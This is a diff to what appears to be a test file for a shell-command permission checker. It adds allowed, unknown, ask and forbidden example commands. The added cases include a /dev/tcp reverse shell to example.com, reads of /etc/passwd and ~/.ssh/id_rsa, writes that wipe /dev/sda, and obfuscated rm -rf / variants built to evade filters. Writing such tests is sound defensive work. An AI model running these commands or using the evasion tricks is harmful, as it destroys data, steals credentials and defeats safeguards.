@@ -107,6 +107,9 @@ ALLOWED = [
     "grep -c x notes.txt >&2",
     "python -m json.tool package.json",
     "git diff --cached --name-only",
+    "chmod 755 run.sh",
+    "git clean -n",
+    "./.venv/bin/ruff check src",
 ]
 
 UNKNOWN = [
@@ -128,6 +131,8 @@ UNKNOWN = [
     "tox -e py311",
     "python -m mypackage.cli --help",
     "./gradlew run",
+    "./ls",
+    "make clean",
 ]
 
 ASK = [
@@ -304,6 +309,39 @@ ASK = [
     "setsid sleep 100",
     "screen -dm ls",
     "nc -l 4444",
+    "bun i",
+    "vim -c ':!rm -rf build' notes.txt",
+    "parallel rm ::: a b",
+    "/usr/bin/../bin/rm -rf build",
+    "chmod -R 000 .",
+    "chmod 444 notes.txt",
+    "chmod u+s build.sh",
+    "> README.md",
+    "cat {/etc,/tmp}/passwd",
+    "cat /proc/self/root/etc/passwd",
+    "cat /e*c/passwd",
+    "cat $'\\x2e\\x2e/secret'",
+    "bash -i >& /dev/tcp/example.com/4444 0>&1",
+    "${PATH:0:1}bin/rm -rf build",
+    '"$(printf su)do" ls',
+    "r\\\nm -rf build",
+    "cp -r ~/.ssh .",
+    "ln -s ~/.ssh keys; cat keys/id_rsa",
+    "git push origin :main",
+    "git -c alias.x='!rm -rf ~' x",
+    "HOME=/tmp git config --global x y",
+    "env -i PATH=/tmp ls",
+    "exec rm -rf build",
+    "time rm -rf build",
+    'builtin eval "rm notes.txt"',
+    "xargs -a files.txt rm",
+    "sed -i 's/a/b/' ~/.bashrc",
+    "awk -i inplace '{print}' notes.txt",
+    'rm -rf "$(pwd)"',
+    "rm -rf .git",
+    "kill $$",
+    "git -C .. status",
+    "cat -- -/../../etc/passwd",
 ]
 
 FORBIDDEN = [
@@ -353,6 +391,20 @@ FORBIDDEN = [
     "echo $(sudo id)",
     "cd / && rm -rf *",
     "cd /tmp; rm -rf *",
+    "init 0",
+    "/opt/x/sudo ls",
+    "find / -delete",
+    "shred /dev/sda",
+    "tee /dev/sda < notes.txt",
+    "cp notes.txt /dev/sda",
+    "a=r; b=m; $a$b -rf /",
+    "s''udo ls",
+    "busybox rm -rf /",
+    "nice rm -rf /",
+    "cd ~; rm -rf .",
+    "echo b > /proc/sysrq-trigger",
+    "mv README.md /dev/null",
+    "systemd-run --user rm -rf x",
 ]
 
 
